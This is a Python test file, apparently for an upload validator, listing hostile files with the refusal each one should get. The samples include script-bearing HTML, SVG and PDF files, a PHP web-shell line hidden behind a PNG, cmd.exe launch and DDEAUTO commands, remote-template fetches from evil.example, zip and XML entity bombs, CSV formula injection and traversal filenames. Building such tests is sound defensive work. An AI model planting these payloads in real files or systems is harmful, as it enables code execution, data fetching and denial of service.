"""Hostile uploads, each with what becomes of it: a part of the sentence that refuses it, or None where it is taken.

What is taken is harmless because of how it is served: as an attachment of its own type, to a sandbox.
"""

from __future__ import annotations

import zlib

from register.documents.packed import ODS, ODT
from tests.documents.files import archive, docx, jpeg, open_document, pdf, png, xlsx

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
BOMB = archive({"zeros.xml": bytes(40_000_000)})
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
GIF_JS = b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><w:document>&c;</w:document>'
RELATION = (
    b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
)
OTHER_ORDER = b"<Relationship TargetMode = 'External' Target='https://evil.example' Type='http://x/attachedTemplate'/>"
REFERENCES = RELATION.replace(b"attached", b"attach&#101;d").replace(b"External", b"&#x45;xternal")
BEHIND = RELATION.replace(b" Type", b" Id='> Type=\"/hyperlink\"' Type")
IN_UTF_16 = BEHIND.decode().replace("t.dotm", "\u3c3e\u223c").encode("utf-16")
IN_UTF_7 = b'<?xml version="1.0" encoding="utf-7"?>' + RELATION.replace(b"<", b"+ADw-")
LISTENER = b'<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'
SECTION = b'<text:section-source xlink:href="http://evil.example/a.odt"/>'
PICTURE = b"<draw:image a:href=' &#104;ttps://evil.example/a.png'/>"
SHARE = b'<draw:floating-frame xlink:href="file://evil.example/share/a.odt"/>'
PACKED = b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/Length 4>>\nstream\nabcd\nendstream"
HIDDEN = b"9 0 <</S/JavaScript/Next 8 0 R>>"
SPELLED = b"9 0 <</S/Java#53cript/Next 8 0 R>>"


def packed(
    text: bytes,
    said: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
    *,
    begins: bytes = b"stream\n",
    body: bytes = b"",
) -> bytes:
    """Return a PDF with a stream of objects, as it is said to be packed."""
    return pdf(b"<<" + said + b">>\n" + begins + (body or zlib.compress(text)) + b"\nendstream")


def renamed(data: bytes) -> bytes:
    """Write a name that leads out of the archive over one that does not, of the same length."""
    return data.replace(b"word/aa/aa.xml", b"../../../x.xml")


def encrypted(data: bytes) -> bytes:
    """Mark every member of an archive as protected with a password."""
    marked = bytearray(data)
    for head, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = marked.find(head)
        while place >= 0:
            marked[place + flags] |= 1
            place = marked.find(head, place + 4)
    return bytes(marked)


HOSTILE: list[tuple[str, str, bytes, str | None]] = [
    ("an HTML page", "page.html", HTML, ".html file is not taken"),
    ("an SVG picture", "drawing.svg", SVG, ".svg file is not taken"),
    ("HTML that is called a PDF", "report.pdf", HTML, "not a PDF"),
    ("HTML that is called a picture", "hall.png", HTML, "not a PNG picture"),
    ("HTML that is called text", "notes.txt", b"\r\n " + HTML, "not plain text"),
    ("SVG that is called CSV", "sums.csv", b'<?xml version="1.0"?>' + SVG, "not plain text"),
    ("a GIF that is a script, called a JPEG", "hall.jpg", GIF_JS, "not a JPEG picture"),
    ("a GIF that is a script", "hall.gif", GIF_JS, ".gif file is not taken"),
    ("a PDF behind some HTML", "report.pdf", HTML + pdf(), "not a PDF"),
    ("a PDF with HTML in its first line", "report.pdf", pdf(head=b"%PDF-1.7\n%" + HTML + b"\n"), "hidden"),
    ("a PDF with HTML behind it", "report.pdf", pdf() + HTML, "hidden"),
    ("a PDF with a zip behind it", "report.pdf", pdf() + archive({"a.txt": b"a"}) + b"\n%%EOF\n", "hidden"),
    ("a PDF that runs a script", "report.pdf", pdf(JS), "holds a program"),
    (
        "a PDF whose script is spelled otherwise",
        "report.pdf",
        pdf(b"<</S/J#61vaScript/#4aS 9 0 R>>"),
        "holds a program",
    ),
    ("a PDF that runs a packed script", "report.pdf", pdf(compressed=b"9 0 " + JS), "holds a program"),
    (
        "a script whose checksum is wrong",
        "a.pdf",
        packed(b"", body=zlib.compress(HIDDEN)[:-1] + b"!"),
        "be looked into",
    ),
    ("a script that is cut", "a.pdf", packed(b"", body=zlib.compress(HIDDEN)[:-6]), "be looked into"),
    ("a script behind a lone CR", "a.pdf", packed(HIDDEN, begins=b"stream\r"), "be looked into"),
    ("a script behind a blank", "a.pdf", packed(HIDDEN, begins=b"stream \n"), "be looked into"),
    ("a script behind a comment", "a.pdf", packed(HIDDEN, begins=b"%\nstream \n"), "be looked into"),
    ("a stream without an end", "a.pdf", packed(HIDDEN).replace(b"endstream", b""), "be looked into"),
    ("a stream within a stream", "a.pdf", pdf(b"<<>>\nstream\n<<>>\nstream\n\nendstream"), "be looked into"),
    ("20,000 streams", "a.pdf", b"%PDF-1.7\n" + b"stream\n" * 20_000 + b"%%EOF\n", "be looked into"),
    (
        "a script behind a note",
        "a.pdf",
        packed(SPELLED, b"/Type/ObjStm/N 1/First 4/Note ( 1 0 obj)/Filter/FlateDecode"),
        "holds a program",
    ),
    (
        "a script behind a long dictionary",
        "a.pdf",
        packed(SPELLED, b"/Type/ObjStm/Filter/FlateDecode/Note (" + b"-" * 9000 + b")"),
        "holds a program",
    ),
    ("a script in a stream that is not said to hold objects", "a.pdf", packed(SPELLED, b"/N 1"), "holds a program"),
    (
        "a script packed in an unusual way, that is not said to hold objects",
        "a.pdf",
        packed(b"", b"/N 1/First 4/Filter/ASCIIHexDecode", body=HIDDEN.hex().encode() + b">"),
        "be looked into",
    ),
    (
        "a script packed twice, beside another that is not",
        "a.pdf",
        packed(zlib.compress(HIDDEN), b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]/A<</Filter/FlateDecode>>"),
        "be looked into",
    ),
    ("a PDF packed in an unusual way", "report.pdf", pdf(PACKED), "cannot be looked into"),
    ("a PDF that starts a program", "report.pdf", pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "holds a program"),
    ("a PDF with a file in it", "report.pdf", pdf(b"<</Type/EmbeddedFile>>\nstream\nMZ\nendstream"), "holds a program"),
    (
        "a PDF with a password",
        "report.pdf",
        pdf(b"<</Filter/Standard>>").replace(b"/Root", b"/Encrypt 4 0 R/Root"),
        "protected",
    ),
    ("a picture with PHP behind it", "hall.png", png(behind=b"<?php system($_GET[0]); ?>"), "hidden"),
    ("a picture with a zip behind it", "hall.jpg", jpeg(behind=archive({"a": b"a"})), "hidden"),
    ("a picture with HTML in its comment", "hall.jpg", jpeg(HTML), "hidden"),
    ("a picture with a script among its words", "hall.png", png({b"tEXt": b"Title\0" + SCRIPT}), "hidden"),
    (
        "a picture of ten thousand million dots",
        "hall.png",
        png().replace(b"\0\0\0\x01\0\0\0\x01", b"\xff" * 8),
        "damaged",
    ),
    ("a zip bomb, 1 to 1,000", "reasons.docx", docx({"word/zeros.xml": bytes(40_000_000)}), "unpacks to far more"),
    ("a zip bomb within a document", "reasons.docx", docx({"word/bomb.zip": BOMB}), "Another file is hidden"),
    (
        "a zip bomb that is an embedded table",
        "reasons.docx",
        docx({"word/embeddings/a.xlsx": BOMB}),
        "unpacks to far more",
    ),
    ("a zip with a name that leads out of it", "reasons.docx", renamed(docx({"word/aa/aa.xml": b"<a/>"})), "damaged"),
    ("a zip with a password", "reasons.docx", encrypted(docx()), "protected with a password"),
    ("Office’s own password", "reasons.docx", b"\xd0\xcf\x11\xe0" + bytes(600), "protected with a password"),
    ("macros, renamed to .docx", "reasons.docx", docx({"word/vbaProject.bin": b"VBA"}), "macros"),
    (
        "a .docm renamed to .docx",
        "reasons.docx",
        docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    ("a .docm", "reasons.docm", docx(), ".docm file is not taken"),
    ("macros in OpenDocument", "reasons.odt", open_document(more={"Basic/Standard/M.xml": b"<m/>"}), "macros"),
    ("an XML entity bomb", "reasons.docx", docx(body=ENTITIES), "damaged"),
    ("an entity bomb in UTF-16", "reasons.docx", docx(body=ENTITIES.decode().encode("utf-16")), "damaged"),
    ("a template that is fetched", "reasons.docx", docx({"word/_rels/s.xml.rels": RELATION}), "fetches something"),
    ("a template, said in another order", "a.docx", docx({"word/_rels/s.xml.rels": OTHER_ORDER}), "fetches something"),
    ("a template, spelled otherwise", "a.docx", docx({"word/_rels/s.xml.rels": REFERENCES}), "fetches something"),
    ("a template behind a “>”", "a.docx", docx({"word/_rels/s.xml.rels": BEHIND}), "fetches something"),
    ("a template in UTF-16", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_16}), "fetches something"),
    ("a template in UTF-16 without a mark", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_16[2:]}), "damaged"),
    ("a template in another encoding", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_7}), "damaged"),
    ("a listener under another prefix", "a.odt", open_document(more={"styles.xml": LISTENER}), "macros"),
    ("a section that is fetched", "a.odt", open_document(more={"styles.xml": SECTION}), "fetches something"),
    ("a picture that is fetched", "a.ods", open_document(ODS, {"styles.xml": PICTURE}), "fetches something"),
    ("a frame from another computer", "a.odt", open_document(more={"styles.xml": SHARE}), "fetches something"),
    ("a list that is fetched by DDE", "a.ods", open_document(ODS, {"styles.xml": b"<b:dde-link/>"}), "macros"),
    (
        "a million links",
        "a.odt",
        open_document(more={"styles.xml": b"<a href=''/>" * 1_000_000}),
        "unpacks to far more",
    ),
    ("a command in a field", "reasons.docx", docx(body=b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "macros"),
    (
        "a program in a document",
        "reasons.odt",
        open_document(more={"Pictures/a.png": b"MZ\x90"}),
        "Another file is hidden",
    ),
    ("a table that is called a document", "reasons.docx", xlsx(), "damaged, or not what its name says"),
    ("a document that is called a table", "sums.ods", open_document(ODT), "damaged, or not what its name says"),
    ("a zip behind some bytes", "reasons.docx", b"#!/bin/sh\n" + docx(), "damaged"),
    ("a zip with HTML behind it", "reasons.docx", docx() + HTML, "hidden"),
    ("nothing at all", "report.pdf", b"", "empty"),
    ("blanks only", "notes.txt", b" \r\n", "empty"),
    ("11 MB", "notes.txt", b"a" * 11_000_000, "larger than 10 MB"),
    ("a NUL in text", "notes.txt", b"a\0b", "no plain text"),
    ("text that is not UTF-8", "sums.csv", "Hall;£".encode("cp1252"), "UTF-8"),
    ("no ending", "report", pdf(), "not taken"),
    ("two endings", "report.pdf.exe", pdf(), ".exe file is not taken"),
    ("a name with a NUL", "report.pdf\0.html", pdf(), "not taken"),
    # Taken, and made harmless by their name and how they are served.
    ("CSV with formulas", "sums.csv", b"=cmd|' /C calc'!A0,@SUM(1)\r\n", None),
    ("a script in the middle of text", "notes.txt", b"The page says " + SCRIPT, None),
    ("a name that leads elsewhere", "../../../etc/report.pdf", pdf(), None),
    ("a name of a Windows folder", "C:\\windows\\report.pdf", pdf(), None),
    ("a name that reads backwards", "report\u202efdp.exe.pdf", pdf(), None),
    ("a name of a device", "con.pdf", pdf(), None),
    ("a name of 300 characters", "r" * 300 + ".pdf", pdf(), None),
    ("a name with line ends and quotes", 'a"\r\nSet-Cookie: a=b.pdf', pdf(), None),
    ("a name that is a script", "<script>alert(1)<script>.pdf", pdf(), None),
    (
        "a deflated page in a PDF",
        "report.pdf",
        pdf(b"<</Length 9>>\nstream\n" + zlib.compress(HTML) + b"\nendstream"),
        None,
    ),
]
"""What it is, its name, its bytes, and why it is refused."""
